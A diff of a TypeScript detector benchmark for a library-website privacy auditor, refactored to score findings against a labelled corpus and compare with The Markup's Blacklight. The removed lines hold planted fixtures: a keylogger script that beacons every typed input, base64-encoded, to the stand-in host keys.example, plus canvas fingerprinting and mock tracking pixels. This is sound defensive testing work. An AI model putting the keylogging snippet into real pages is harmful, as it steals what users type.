@@ -1,149 +1,223 @@
 /**
- * Detector benchmark (`npm run bench:detectors [-- --sites N --seed S]`): generates a seeded corpus of library
- * sites, each planting a random subset of surveillance behaviours next to always-present benign controls
- * (first-party autocomplete, canvas chart, avatar thumbnail, session cookie, self-hosted counter, HSTS,
- * strict referrer policy, privacy link); some sites plant nothing. Every site is scanned in Chromium and
- * audited; a rule firing on a site is a true positive when a planted behaviour implies it, a false positive
- * otherwise. Prints recall and precision per rule and overall, and false positives on the control-only sites.
+ * `npm run bench:detectors`: the detector benchmark. Generates the seeded corpus of labelled library sites
+ * (bench/corpus), serves it on loopback, scans every site with the real pipeline (collect in Debian Chromium,
+ * then audit) and compares the findings with the labels: recall and precision per rule and overall, and
+ * false positives on the benign control sites. In the same run it scans the same sites with The Markup's
+ * Blacklight collector (`@themarkup/blacklight-collector`, puppeteer driving the same Chromium) and prints
+ * its results beside ours, mapped to the comparable rules. A (site, rule) pair is the unit: a rule "reports"
+ * on a site when it has a failing (or to-review) finding above info severity there.
+ *
+ * Environment: BENCH_SEED, BENCH_SITES (24-40), BENCH_CONCURRENCY (sites at once, default 2), BENCH_PORT
+ * (default 443, falling back to a free port; 0 = a free port),
+ * BENCH_BLACKLIGHT=0 (skip the comparison), BENCH_OUT=file.json (write the raw per-site results),
+ * BENCH_KEEP=1 (keep the generated corpus and print where). A smaller, self-contained variant with an
+ * inline corpus lives in bench/detectors-quick.ts.
  */
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { parseArgs } from 'node:util';
+import { dirname, join, resolve } from 'node:path';
+import { performance } from 'node:perf_hooks';
+import { fileURLToPath } from 'node:url';
+import { collect } from '../src/engine/collect.js';
 import { audit } from '../src/engine/audit.js';
-import { scanFixture } from '../test/harness/scan-fixture.js';
+import { resolveConfig } from '../src/config/resolve-config.js';
+import { startSiteServer, type SiteServer } from '../src/sites/server.js';
+import type { RunResult } from '../src/model/index.js';
+import { DEFAULT_SEED, DEFAULT_SITES, generateCorpus, type SiteLabel } from './corpus/generate.js';
+import { SCORED_RULES, type ScoredRule } from './corpus/behaviours.js';
+import { runBlacklight, BLACKLIGHT_CATEGORIES, blacklightReported, type BlacklightOutcome } from './detectors-blacklight.js';
 
-interface Behaviour {
-  id: string;
-  /** Rules this behaviour must make fire. */
-  rules: string[];
-  head?: string;
-  body?: string;
-  /** Files of third-party hosts: host → path → content. */
-  files?: Record<string, Record<string, string>>;
-  /** Rules it may also make fire truthfully (not required for recall, not counted as false positives). */
-  may?: string[];
-  /** Removes a control (hygiene behaviours). */
-  drops?: 'hsts' | 'privacy' | 'referrer';
+const PROJECT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
+const env = process.env;
+const SEED = Number(env.BENCH_SEED ?? DEFAULT_SEED);
+const SITES = Number(env.BENCH_SITES ?? DEFAULT_SITES);
+const CONCURRENCY = Math.max(1, Number(env.BENCH_CONCURRENCY ?? 2));
+const WITH_BLACKLIGHT = env.BENCH_BLACKLIGHT !== '0';
+
+export interface SiteRun {
+  host: string;
+  /** Rule ids that reported on the site. */
+  reported: string[];
+  errors: string[];
+  ms: number;
 }
 
-const H = (host: string) => `'https://' + location.host.replace(/^[^:]*/, '${host}')`;
-const BEHAVIOURS: Behaviour[] = [
-  { id: 'mixpanel', rules: ['third-party-tracker'], head: '<script src="{{origin:cdn.mxpnl.com}}/libs/mixpanel.js"></script>',
-    files: { 'cdn.mxpnl.com': { 'libs/mixpanel.js': `fetch(${H('api-js.mixpanel.com')} + '/track', { method: 'POST', mode: 'no-cors', body: 'data=e30=' }).catch(function () {});` } } },
-  { id: 'meta-pixel', rules: ['advertising-pixel', 'first-party-tracking-cookie'], head: '<script src="{{origin:connect.facebook.net}}/en_US/fbevents.js"></script>',
-    files: { 'connect.facebook.net': { 'en_US/fbevents.js': `document.cookie = '_fbp=fb.1.1700000000000.99; path=/; max-age=7776000'; new Image().src = ${H('www.facebook.com')} + '/tr?id=1&ev=PageView';` } } },
-  { id: 'ga4', rules: ['google-analytics', 'first-party-tracking-cookie'], head: '<script src="{{origin:www.googletagmanager.com}}/gtag/js.js?id=G-BENCH1"></script>',
-    files: { 'www.googletagmanager.com': { 'gtag/js.js': `document.cookie = '_ga=GA1.1.123.456; path=/; max-age=63072000'; fetch(${H('region1.google-analytics.com')} + '/g/collect?v=2&tid=G-BENCH1', { method: 'POST', mode: 'no-cors' }).catch(function () {});` } } },
-  { id: 'keylogger', rules: ['key-logging', 'search-term-leak', 'third-party-content'], head: '<script src="{{origin:keys.example}}/k.js"></script>',
-    files: { 'keys.example': { 'k.js': `document.addEventListener('input', function (e) { var v = e.target && e.target.value; if (v) navigator.sendBeacon(${H('keys.example')} + '/k', btoa(unescape(encodeURIComponent(v)))); }, true);` } } },
-  { id: 'cover', rules: ['reading-leak'], body: '<p>ISBN 978-0-306-40615-7</p><img src="{{origin:syndetics.com}}/index.aspx?isbn=9780306406157/SC.GIF" alt="">' },
-  { id: 'fingerprint', rules: ['fingerprinting', 'third-party-content'], head: '<script src="{{origin:fp.vendor.example}}/fp.js"></script>',
-    files: { 'fp.vendor.example': { 'fp.js': `(function(){var c=document.createElement('canvas');c.width=200;c.height=40;var x=c.getContext('2d');['Cwm ','fjord ','glyph'].forEach(function(p,i){x.fillText(p,5+i*50,20)});c.toDataURL();})();` } } },
-  { id: 'replay', rules: ['session-replay'], head: '<script src="/js/helper.js"></script>',
-    body: `<script>var ev=[];if(window.rrweb)rrweb.record({emit:function(e){ev.push(e)}});setTimeout(function(){fetch('/ux/ingest',{method:'POST',body:JSON.stringify(ev.slice(0,3))}).catch(function(){})},300);</script>` },
-  { id: 'face-models', rules: ['face-recognition'], body: `<script>fetch('/models/tiny_face_detector_model-weights_manifest.json').catch(function(){});fetch('/cv/haarcascade_frontalface_default.xml').catch(function(){});</script>` },
-  { id: 'widget', rules: ['third-party-content'], head: '<script src="{{origin:widgets.unknown-vendor.example}}/w.js"></script>', files: { 'widgets.unknown-vendor.example': { 'w.js': 'window.w = 1;' } } },
-  { id: 'google-fonts', rules: ['third-party-fonts-cdn'], head: '<link rel="stylesheet" href="{{origin:fonts.googleapis.com}}/css2.css?family=Lato">', files: { 'fonts.googleapis.com': { 'css2.css': '/* */' } } },
-  { id: 'mixed', rules: ['mixed-content'], may: ['third-party-content'], body: '<img src="http://insecure.example/b.png" alt="">' },
-  { id: 'no-hsts', rules: ['https-hsts'], drops: 'hsts' },
-  { id: 'no-privacy-link', rules: ['privacy-policy-link'], drops: 'privacy' },
-  { id: 'leaky-referrer', rules: ['referrer-policy'], drops: 'referrer', head: '<meta name="referrer" content="unsafe-url">' },
-];
-
-const CONTROLS_BODY = `<form action="/search" method="get" role="search"><input type="search" name="q"></form>
-<canvas id="chart" width="400" height="200"></canvas><canvas id="th" width="32" height="32"></canvas>
-<script src="/count.js"></script>
-<script>
-document.querySelector('input[name=q]').addEventListener('input',function(e){fetch('/suggest?q='+encodeURIComponent(e.target.value)).catch(function(){})});
-var c=document.getElementById('chart').getContext('2d');[30,50,20].forEach(function(v,i){c.fillRect(20+i*60,180-v,40,v);c.fillText('M'+i,30+i*60,195)});
-var im=new Image();im.onload=function(){var t=document.getElementById('th');t.getContext('2d').drawImage(im,0,0,32,32);t.toDataURL()};im.src='/avatar.svg';
-</script>`;
-
-const ROUTES = `export default function routes(req, res, ctx) {
-  const p = ctx.url.pathname;
-  const h = JSON.parse(process.env.__H || '{}');
-  if (p === '/suggest') { res.writeHead(200, { 'content-type': 'application/json' }); res.end(JSON.stringify({ q: ctx.url.searchParams.get('q') })); return true; }
-  if (p === '/js/helper.js') { res.writeHead(200, { 'content-type': 'text/javascript' }); res.end(ctx.npmFile('rrweb/dist/rrweb.umd.min.cjs')); return true; }
-  if (p === '/count' || p === '/ux/ingest' || p.startsWith('/models/') || p.startsWith('/cv/')) { res.writeHead(200, { 'content-type': 'text/plain' }); res.end('{}'); return true; }
-  return false;
-}`;
-
-/** Deterministic PRNG (mulberry32) so a seed always yields the same corpus. */
-function rng(seed: number): () => number {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
+/** Rule ids with a failing or to-review finding above info: what a librarian would be told about. */
+export function reportedRules(result: RunResult): string[] {
+  const ids = result.findings.filter((f) => (f.outcome === 'fail' || f.outcome === 'needs-review') && f.severity !== 'info').map((f) => f.ruleId);
+  return [...new Set(ids)].sort();
 }
 
-/** Write one generated site (library host + third-party hosts) under `root`; return its planted behaviours. */
-function writeSite(root: string, planted: Behaviour[]): void {
-  const lib = join(root, 'www.library.example');
-  mkdirSync(lib, { recursive: true });
-  const drops = new Set(planted.map((b) => b.drops).filter(Boolean));
-  const head = planted.map((b) => b.head ?? '').join('\n');
-  const body = planted.map((b) => b.body ?? '').join('\n');
-  const privacy = drops.has('privacy') ? '' : '<footer><a href="/privacy">Privacy policy</a></footer>';
-  writeFileSync(join(lib, 'index.html'), `<!doctype html><html><head><title>Library</title>\n${head}\n</head><body><h1>Catalogue</h1>\n${CONTROLS_BODY}\n${body}\n${privacy}</body></html>`);
-  writeFileSync(join(lib, 'count.js'), "navigator.sendBeacon('/count', location.pathname);");
-  writeFileSync(join(lib, 'avatar.svg'), '<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32"><circle cx="16" cy="16" r="12"/></svg>');
-  writeFileSync(join(lib, '_routes.mjs'), ROUTES);
-  const headers: Record<string, string | string[]> = { 'set-cookie': ['SESSIONID=abc123; Path=/; Secure; HttpOnly; SameSite=Lax'] };
-  if (!drops.has('hsts')) headers['strict-transport-security'] = 'max-age=31536000';
-  if (!drops.has('referrer')) headers['referrer-policy'] = 'strict-origin-when-cross-origin';
-  writeFileSync(join(lib, '_headers.json'), JSON.stringify({ '/': headers }));
-  for (const b of planted) for (const [host, files] of Object.entries(b.files ?? {})) for (const [path, text] of Object.entries(files)) {
-    mkdirSync(join(root, host, path, '..'), { recursive: true });
-    writeFileSync(join(root, host, path), text);
-  }
-  writeFileSync(join(root, 'start'), 'www.library.example');
-}
-
-const { values } = parseArgs({ options: { sites: { type: 'string', default: '22' }, seed: { type: 'string', default: '7' }, controls: { type: 'string', default: '4' } } });
-const nSites = Number(values.sites);
-const nControls = Number(values.controls);
-const rand = rng(Number(values.seed));
-const dir = mkdtempSync(join(tmpdir(), 'fid-bench-'));
-const RULES = [...new Set(BEHAVIOURS.flatMap((b) => b.rules))].sort();
-const tally = new Map(RULES.map((r) => [r, { tp: 0, fp: 0, fn: 0 }]));
-let controlFp = 0;
-const started = Date.now();
-
-try {
-  for (let i = 0; i < nSites; i++) {
-    const planted = i < nControls ? [] : BEHAVIOURS.filter(() => rand() < 0.35);
-    const root = join(dir, `site-${String(i).padStart(2, '0')}`);
-    writeSite(root, planted);
-    const o = await scanFixture(`site-${i}`, { root, config: { settleMs: 800, pageTimeoutMs: 60_000 } });
-    const result = audit(o);
-    const fired = new Set(result.findings.filter((f) => f.outcome === 'fail' || f.outcome === 'needs-review').map((f) => f.ruleId));
-    const expected = new Set(planted.flatMap((b) => b.rules));
-    const allowed = new Set(planted.flatMap((b) => b.may ?? []));
-    for (const r of RULES) {
-      const t = tally.get(r)!;
-      if (expected.has(r) && fired.has(r)) t.tp++;
-      else if (expected.has(r)) t.fn++;
-      else if (fired.has(r) && !allowed.has(r)) { t.fp++; if (planted.length === 0) controlFp++; }
+/** Run `fn` over `items` with at most `limit` at once, keeping order. */
+async function pool<T, R>(items: readonly T[], limit: number, fn: (item: T, i: number) => Promise<R>): Promise<R[]> {
+  const out: R[] = new Array(items.length);
+  let next = 0;
+  await Promise.all(Array.from({ length: Math.min(limit, items.length) }, async () => {
+    while (next < items.length) {
+      const i = next++;
+      out[i] = await fn(items[i]!, i);
     }
-    const pageErr = o.visits[0]?.pages[0]?.errors.map((e) => e.code).join(',') ?? '';
-    process.stderr.write(`site ${i}: planted [${planted.map((b) => b.id).join(', ')}] fired [${[...fired].sort().join(', ')}]${pageErr ? ` errors ${pageErr}` : ''}\n`);
-  }
-} finally {
-  rmSync(dir, { recursive: true, force: true });
+  }));
+  return out;
 }
 
-const pct = (a: number, b: number) => (b === 0 ? 'n/a' : `${((100 * a) / b).toFixed(1)}%`);
-let TP = 0, FP = 0, FN = 0;
-console.log(`Detector benchmark: ${nSites} generated sites (seed ${values.seed}, ${nControls} control-only), ${((Date.now() - started) / 1000).toFixed(0)} s`);
-console.log('rule'.padEnd(30) + 'TP'.padStart(4) + 'FN'.padStart(4) + 'FP'.padStart(4) + 'recall'.padStart(9) + 'precision'.padStart(11));
-for (const [r, t] of tally) {
-  TP += t.tp; FP += t.fp; FN += t.fn;
-  console.log(r.padEnd(30) + String(t.tp).padStart(4) + String(t.fn).padStart(4) + String(t.fp).padStart(4) + pct(t.tp, t.tp + t.fn).padStart(9) + pct(t.tp, t.tp + t.fp).padStart(11));
+async function scanFiduciary(server: SiteServer, site: SiteLabel): Promise<SiteRun> {
+  const t = performance.now();
+  // Landing page only: the patron's search and its results happen within that visit; both cookie regimes.
+  const config = resolveConfig({ scan: { pages: 0, screenshots: false, settleMs: 1_000 } });
+  const obs = await collect({ target: server.url(site.host, '/'), config, ignoreCertificateErrors: true, hostResolverRules: 'MAP * 127.0.0.1' });
+  const result = audit(obs);
+  return { host: site.host, reported: reportedRules(result), errors: result.errors.map((e) => `${e.code}: ${e.message}`), ms: performance.now() - t };
 }
-console.log(`overall: recall ${pct(TP, TP + FN)}, precision ${pct(TP, TP + FP)}; false positives on control-only sites: ${controlFp}`);
-console.log('blacklight-collector side by side: not run (see docs/detectors.md).');
+
+export interface Score {
+  tp: number;
+  fn: number;
+  fp: number;
+  tn: number;
+}
+
+const empty = (): Score => ({ tp: 0, fn: 0, fp: 0, tn: 0 });
+
+/** Count (site, rule) outcomes of `reported` against the labels, for the given rules. */
+export function score(sites: readonly SiteLabel[], reported: ReadonlyMap<string, ReadonlySet<string>>, rules: readonly ScoredRule[]): Map<ScoredRule, Score> {
+  const out = new Map<ScoredRule, Score>(rules.map((r) => [r, empty()]));
+  for (const site of sites) {
+    const got = reported.get(site.host);
+    if (!got) continue;
+    for (const rule of rules) {
+      const s = out.get(rule)!;
+      const hit = got.has(rule);
+      if (site.expect.includes(rule)) hit ? s.tp++ : s.fn++;
+      else if (site.absent.includes(rule)) hit ? s.fp++ : s.tn++;
+    }
+  }
+  return out;
+}
+
+function total(scores: Iterable<Score>): Score {
+  const t = empty();
+  for (const s of scores) {
+    t.tp += s.tp;
+    t.fn += s.fn;
+    t.fp += s.fp;
+    t.tn += s.tn;
+  }
+  return t;
+}
+
+const pct = (num: number, den: number) => (den === 0 ? '   -  ' : `${((100 * num) / den).toFixed(1).padStart(5)}%`);
+const recall = (s: Score) => pct(s.tp, s.tp + s.fn);
+const precision = (s: Score) => pct(s.tp, s.tp + s.fp);
+
+function printScores(title: string, scores: Map<ScoredRule, Score>): Score {
+  console.log(`\n${title}`);
+  console.log(`${'rule'.padEnd(28)} planted  TP  FN  FP   recall  precision`);
+  for (const [rule, s] of scores) console.log(`${rule.padEnd(28)} ${String(s.tp + s.fn).padStart(7)} ${String(s.tp).padStart(3)} ${String(s.fn).padStart(3)} ${String(s.fp).padStart(3)}   ${recall(s)}  ${precision(s)}`);
+  const t = total(scores.values());
+  console.log(`${'overall'.padEnd(28)} ${String(t.tp + t.fn).padStart(7)} ${String(t.tp).padStart(3)} ${String(t.fn).padStart(3)} ${String(t.fp).padStart(3)}   ${recall(t)}  ${precision(t)}`);
+  return t;
+}
+
+/** Where the tool and the labels disagree, site by site, so a miss can be looked into. */
+function printDisagreements(sites: readonly SiteLabel[], reported: ReadonlyMap<string, ReadonlySet<string>>, rules: readonly ScoredRule[] = SCORED_RULES): void {
+  const lines: string[] = [];
+  for (const site of sites) {
+    const got = reported.get(site.host);
+    if (!got) continue;
+    const missed = site.expect.filter((r) => rules.includes(r) && !got.has(r));
+    const extra = site.absent.filter((r) => rules.includes(r) && got.has(r));
+    if (missed.length || extra.length) lines.push(`  ${site.host} [${site.behaviours.join(' ')}]${missed.length ? `\n    missed: ${missed.join(', ')}` : ''}${extra.length ? `\n    false alarm: ${extra.join(', ')}` : ''}`);
+  }
+  console.log(lines.length ? `\nDisagreements with the labels:\n${lines.join('\n')}` : '\nNo disagreements with the labels.');
+}
+
+/**
+ * Serve the corpus on 443 when this process may, so URLs look like real sites' (no port in them: a rule
+ * that matches `host/path` must not miss for a reason no real site has); otherwise on any free port.
+ */
+async function startServer(root: string): Promise<SiteServer> {
+  const port = Number(env.BENCH_PORT ?? 443);
+  if (port) {
+    try {
+      return await startSiteServer({ root, projectDir: PROJECT, port });
+    } catch {
+      // In use or not permitted: fall through to a free port.
+    }
+  }
+  return startSiteServer({ root, projectDir: PROJECT, port: 0 });
+}
+
+async function main(): Promise<void> {
+  const dir = mkdtempSync(join(tmpdir(), 'fid-bench-corpus-'));
+  const started = performance.now();
+  const labels = generateCorpus(dir, SEED, SITES);
+  const sites = labels.sites;
+  const controls = sites.filter((s) => s.kind === 'control');
+  console.log(`Detector benchmark: ${sites.length} generated sites (${sites.length - controls.length} with planted behaviours, ${controls.length} benign controls), seed ${SEED}, ${CONCURRENCY} at once`);
+  const server = await startServer(dir);
+  console.log(server.port === 443 ? 'Sites served on port 443, as real sites are.' : `Port 443 was not available: sites served on port ${server.port}, so URLs carry a port real sites do not have.`);
+  const ours = new Map<string, Set<string>>();
+  const runs: SiteRun[] = [];
+  let blacklight: BlacklightOutcome[] = [];
+  try {
+    const t0 = performance.now();
+    runs.push(...(await pool(sites, CONCURRENCY, async (site, i) => {
+      const r = await scanFiduciary(server, site).catch((err: Error): SiteRun => ({ host: site.host, reported: [], errors: [`scan failed: ${err.message}`], ms: 0 }));
+      process.stderr.write(`  fiduciary ${i + 1}/${sites.length} ${site.host} ${(r.ms / 1000).toFixed(1)} s\n`);
+      return r;
+    })));
+    for (const r of runs) ours.set(r.host, new Set(r.reported));
+    const fidSeconds = (performance.now() - t0) / 1000;
+    const fid = score(sites, ours, SCORED_RULES);
+    const t = printScores(`Fiduciary (${fidSeconds.toFixed(0)} s for ${sites.length} sites; unit: site × rule)`, fid);
+    printDisagreements(sites, ours);
+    const failedScans = runs.filter((r) => r.errors.length);
+    if (failedScans.length) console.log(`\nScan errors on ${failedScans.length} site(s):\n${failedScans.map((r) => `  ${r.host}: ${r.errors.slice(0, 3).join(' | ')}`).join('\n')}`);
+    const controlFp = controls.map((s) => ({ s, extra: s.absent.filter((r) => ours.get(s.host)?.has(r)) }));
+    const fpSites = controlFp.filter((c) => c.extra.length);
+    console.log(`\nFalse positives on controls: ${fpSites.reduce((n, c) => n + c.extra.length, 0)} on ${fpSites.length} of ${controls.length} control sites` +
+      (fpSites.length ? `\n${fpSites.map((c) => `  ${c.s.host}: ${c.extra.join(', ')}`).join('\n')}` : ''));
+    console.log(`Overall: recall ${recall(t).trim()}, precision ${precision(t).trim()} (targets: recall ≥ 98%, precision ≥ 99.5%)`);
+
+    if (WITH_BLACKLIGHT) {
+      const t1 = performance.now();
+      blacklight = await pool(sites, CONCURRENCY, async (site, i) => {
+        const r = await runBlacklight(server.url(site.host, '/'), join(dir, '_blacklight', site.host));
+        process.stderr.write(`  blacklight ${i + 1}/${sites.length} ${site.host} ${(r.ms / 1000).toFixed(1)} s${r.error ? ` (${r.error})` : ''}\n`);
+        return r;
+      });
+      const blSeconds = (performance.now() - t1) / 1000;
+      const blReported = new Map(sites.map((s, i) => [s.host, blacklightReported(blacklight[i]!)] as const).filter(([, v]) => v !== undefined) as [string, Set<string>][]);
+      const comparable = [...new Set(Object.values(BLACKLIGHT_CATEGORIES).flat())] as ScoredRule[];
+      const rules = SCORED_RULES.filter((r) => comparable.includes(r));
+      const a = score(sites, ours, rules);
+      const b = score(sites, blReported, rules);
+      const failed = blacklight.filter((r) => r.error).length;
+      console.log(`\nSide by side with Blacklight (${blSeconds.toFixed(0)} s for ${sites.length} sites${failed ? `, ${failed} failed` : ''}); rules Blacklight has a category for:`);
+      console.log(`${'rule'.padEnd(28)} planted   Fiduciary recall/precision   Blacklight recall/precision`);
+      for (const r of rules) {
+        const x = a.get(r)!, y = b.get(r)!;
+        console.log(`${r.padEnd(28)} ${String(x.tp + x.fn).padStart(7)}   ${recall(x)} / ${precision(x)}            ${recall(y)} / ${precision(y)}`);
+      }
+      const ta = total(a.values()), tb = total(b.values());
+      console.log(`${'overall (these rules)'.padEnd(28)} ${String(ta.tp + ta.fn).padStart(7)}   ${recall(ta)} / ${precision(ta)}            ${recall(tb)} / ${precision(tb)}`);
+      const others = SCORED_RULES.filter((r) => !comparable.includes(r));
+      console.log(`Blacklight has no category for: ${others.join(', ')}.`);
+      printDisagreements(sites, blReported, rules);
+    }
+  } finally {
+    await server.close();
+    if (env.BENCH_OUT) writeFileSync(env.BENCH_OUT, JSON.stringify({ seed: SEED, labels, fiduciary: runs, blacklight }, null, 1));
+    if (env.BENCH_KEEP === '1') console.log(`\nCorpus kept in ${dir}`);
+    else rmSync(dir, { recursive: true, force: true });
+  }
+  console.log(`\nTotal ${((performance.now() - started) / 1000).toFixed(0)} s.`);
+}
+
+if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
+  main().catch((err: unknown) => {
+    console.error(err);
+    process.exitCode = 1;
+  });
+}
